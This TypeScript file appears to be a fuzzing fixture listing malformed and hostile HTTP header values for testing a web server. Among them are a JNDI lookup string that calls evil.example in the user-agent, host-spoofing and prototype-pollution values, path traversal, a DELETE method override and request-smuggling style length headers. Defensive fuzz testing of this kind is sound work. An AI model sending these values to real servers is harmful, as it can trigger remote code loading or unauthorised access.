export type Header = readonly [name: string, value: string]

/** What any browser or proxy may send as well: none of them makes a request hostile. */
const HARMLESS: readonly Header[] = [
  ['accept-encoding', 'gzip'],
  ['if-none-match', '*'],
  ['range', 'bytes=0-'],
  ['upgrade-insecure-requests', '1'],
  ['origin', 'null'],
  ['expect', '100-continue'],
]

export const HEADERS: readonly [Header, ...Header[]] = [
  ['cookie', 'lang=<fzmark>; theme="fzattr='],
  ['cookie', `lang=ko; theme=dark; nft_type=../..; config=%7B%22__proto__%22%3A1%7D; ${'a=1; '.repeat(200)}`],
  ['cookie', 'lang=%E0%A4%A; lang; =; ;;;'],
  ['cookie', `__proto__=1; constructor=x; lang=${'x'.repeat(4000)}`],
  ['cookie', 'crypt=<fzmark>; crypt=0-00000000000000000000000000000000'],
  ['accept-language', 'ko;q=NaN,*;q=-1,<fzmark>'],
  ['accept-encoding', 'gzip;q=1e999, br;q=x, *;q=0, identity;q=0'],
  ['accept-encoding', `br${',gzip'.repeat(500)}`],
  ['accept', 'text/html;<fzmark>'],
  ['if-none-match', `"${'x'.repeat(2000)}", W/"<fzmark>"`],
  ['if-modified-since', 'Sat, 99 Foo 99999 99:99:99 GMT'],
  ['if-match', '"nothing"'],
  ['range', 'bytes=-1,5-2,99999999999999999999-'],
  ['range', `bytes=${'0-1,'.repeat(400)}`],
  ['host', 'evil.example'],
  ['host', 'a"><fzmark>'],
  ['host', 'localhost:99999999'],
  ['x-forwarded-for', '<fzmark>, 10.0.0.1, ::1'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'javascript'],
  ['forwarded', 'for="_<fzmark>";host=evil.example'],
  ['x-original-url', '/metrics'],
  ['x-http-method-override', 'DELETE'],
  ['upgrade', 'h2c'],
  ['upgrade', 'websocket'],
  ['origin', 'https://evil.example'],
  ['referer', 'javascript:<fzmark>'],
  ['user-agent', '${jndi:ldap://evil.example/a}<fzmark>\u00ff\u009b31m'],
  ['authorization', 'Basic AAAA\u00ff'],
  ['content-type', 'application/json; charset=<fzmark>'],
  ['content-type', 'multipart/form-data; boundary=x'],
  ['transfer-encoding', 'chunked'],
  ['content-length', '-1'],
  ['content-length', '99999999999'],
  ['connection', 'close, x-fzmark'],
  // The encrypted mode without a session, and asked for in ways that do not ask for it.
  ['x-encrypted', '1'],
  ['x-encrypted', '1, 1'],
  ['x-encrypted', '<fzmark>'],
  ['x-long', 'x'.repeat(8000)],
  ['x-longer', 'x'.repeat(20_000)],
  ...HARMLESS,
]

export const isHarmless = ([name, value]: Header): boolean => HARMLESS.some((known) => known[0] === name && known[1] === value)
